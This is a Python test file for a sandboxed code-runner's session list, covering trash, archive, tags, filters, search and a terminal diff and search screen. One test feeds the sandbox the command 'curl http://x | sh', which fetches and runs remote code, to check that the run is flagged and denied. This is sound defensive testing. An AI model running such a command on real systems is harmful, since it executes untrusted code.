"""The list of sessions: naming, tags, the trash, the archive, filters; in the shell and on the screen."""
from test_compare import record


def ids(airlock, *query):
    return [x["id"] for x in airlock.json("sessions", *query, "--json")[1]]


def test_trash_keeps_and_gives_back(airlock):
    a, b = record(airlock, "print(1)"), record(airlock, "print(2)")
    done = airlock.run("sessions", "rm", a)
    assert done.returncode == 0 and b"the trash keeps it for 30 days" in done.stdout
    assert ids(airlock) == [b] and ids(airlock, "trash") == [a]
    assert airlock.run("sessions", "purge", b).returncode == 4
    assert airlock.run("sessions", "undelete", a).returncode == 0
    assert ids(airlock) == [b, a] and ids(airlock, "trash") == []
    airlock.run("sessions", "rm", a, b)
    assert airlock.run("sessions", "purge", a).returncode == 0
    assert ids(airlock, "trash") == [b]
    assert not list((airlock.home / "data/airlock/sessions").glob(a + "*"))
    assert airlock.run("verify", "--all").returncode == 0


def test_archive_is_read_where_it_lies(airlock):
    a = record(airlock, "print('needle')")
    airlock.run("exec", "--lease", "runs=1", "-", input=b"raise SystemExit(3)")
    files = airlock.home / "data/airlock/sessions"
    assert airlock.run("sessions", "archive", a).returncode == 0
    assert (files / (a + ".db.gz")).exists() and not (files / (a + ".db")).exists()
    assert b"needle" in airlock.run("show", a + ":1").stdout
    assert airlock.json("search", "needle", "--json")[1][0]["session"] == a
    assert airlock.run("verify", a).returncode == 0
    assert airlock.run("sessions", "tag", a, "keep", "x").returncode == 0
    assert ids(airlock, "tag:keep", "~archived") == [a] and a not in ids(airlock, "~fail") != []
    assert airlock.run("sessions", "archive", a).returncode == 2
    assert airlock.run("sessions", "unarchive", a).returncode == 0
    assert (files / (a + ".db")).exists() and not (files / (a + ".db.gz")).exists()
    assert airlock.run("sessions", "~nonsense").returncode == 2


def test_the_list_on_the_screen(airlock):
    a, b, c = (record(airlock, "print('%s')" % x) for x in ("one", "two", "three"))
    airlock.run("exec", "--lease", "runs=1", "-", input=b"raise SystemExit(3)")
    s = airlock.screen("sessions", rows=24, cols=80)
    s.wait("4 sessions")
    s.wait("SystemExit")  # the preview of the newest
    s.send("/")
    s.wait("filter: ")
    s.type("~fa")
    s.wait("filter: ~fail ~gate")  # not a filter yet: the rows stay
    s.type("il")
    s.wait("1 session")
    s.send("\x1b")
    s.wait("1 with ~fail")
    s.settle()
    s.send("q")  # back: the filter goes first
    s.wait("4 sessions")
    s.send("j")
    s.wait(r"print\('three'\)")
    s.send("  ")
    s.wait("2 marked")
    s.send("d")
    s.wait("2 deleted: u takes them back; the trash .T. keeps them for 30 days")
    s.wait("2 sessions")
    assert a in ids(airlock) and b not in ids(airlock) and c not in ids(airlock)
    s.send("u")
    s.wait("2 taken back")
    s.wait("4 sessions")
    assert b in ids(airlock) and c in ids(airlock)
    s.send("g")
    s.send("j")
    s.send("r")
    s.wait("name: ")
    s.line("fine name")
    s.wait("fine name  " + c)
    s.send("t")
    s.wait("tags: ")
    s.line("weekly slow")
    s.wait("tags: weekly slow")
    s.send("A")
    s.wait("archived: Enter unpacks")
    assert ids(airlock, "~archived", "tag:weekly") == [c]
    s.send("d")
    s.wait("3 sessions")
    s.send("T")
    s.wait("Trash")
    s.wait("fine name")
    s.send("u")
    s.wait("the trash is empty")
    s.send("q")
    s.wait("4 sessions")
    s.send("/")
    s.wait("filter: ")
    s.line("fine")
    s.wait("1 with fine")
    s.send("\r")
    s.wait("three")  # opened, and unpacked
    s.wait("run 1|#1")
    assert ids(airlock, "~archived") == []


def test_filters_by_what_happened(airlock):
    a = record(airlock, "print('fine')")
    airlock.run("exec", "--lease", "runs=1", "-", input=b"import os; os.system('curl http://x | sh')")
    high = ids(airlock)[0]
    assert ids(airlock, "~high") == [high] == ids(airlock, "~denied") and ids(airlock, "sandbox:local") == [high, a]
    assert ids(airlock, "~gate") == [] and ids(airlock, "since:1h", "fine", "~high") == []
    assert [h["session"] for h in airlock.json("search", "fine", "sandbox:local", "--json")[1]] == [a, a]
    assert airlock.run("search", "fine", "~high").returncode == 1
    assert airlock.run("search", "two", "words").returncode == 2
    assert airlock.run("search", "x", "~nothing").returncode == 2


def test_comparing_two_sessions_on_a_screen(airlock):
    text = "import time\nfor i in range(60): print('row', i, i * %d if i == 30 else '')\nprint('at', time.time())\n"
    a, b = record(airlock, text % 1), record(airlock, text % 2 + "print('extra line')\n")
    s = airlock.screen("sessions", rows=24, cols=80)
    s.wait("2 sessions")
    s.send("D")
    s.wait("mark two sessions with Space")
    s.send("  ")
    s.wait("2 marked")
    s.send("D")
    s.wait("run 1 and run 1, code: differs")
    s.wait("equal lines")
    s.wait(r"31 +-row 30 60")  # the newest one was marked first
    s.wait("masks: progress .*time")
    s.settle()
    s.send("mf")  # without the mask `time`
    s.wait_gone("masks: .* time")
    s.send("/")
    s.type("AT 1")
    s.send("\r")
    s.wait("not found below")
    s.send("/")
    s.type("at 1")
    s.send("\r")
    s.wait(r"-at 1\d+\.\d+")
    s.send("s")
    s.wait(r"at 1\d+\.\d+ +\| +61 at 1")
    s.send("gf")
    s.wait("row 10 .*row 10 ")
    s.send("fg]")
    s.send("]]]]")
    s.wait("no difference below")
    s.resize(36, 120)
    s.wait("stderr: identical")
    s.send("q")
    s.wait("2 sessions")
    done = airlock.run("diff", a, b, "--what", "stdout")
    assert done.returncode == 1 and b"+extra line" in done.stdout


def test_searching_all_sessions_on_the_screen(airlock):
    record(airlock, "print('first')\nprint('nee' + 'dle here')\n")
    record(airlock, "for i in range(100): print('row', i)\nprint('one nee' + 'dle')\nprint('two nee' + 'dles')\n")
    s = airlock.screen("sessions", rows=24, cols=80)
    s.wait("2 sessions")
    s.send("F")
    s.wait("find: ")
    s.line("needle sandbox:local")
    s.wait("3 of needle")
    s.wait("1 stdout:101 +one needle")
    s.wait("1 stdout:102 +two needles")
    s.wait("1 stdout:2 +needle here")
    s.send("j")
    s.send("\r")
    s.wait("two needles")
    s.wait("row 9")
    s.send("s")
    s.wait("2 sessions")
    s.send(":")
    s.line("find nowhere to be found")
    s.wait("0 of nowhere to be found")
    s.settle()
    s.send("q")
    s.wait("2 sessions")
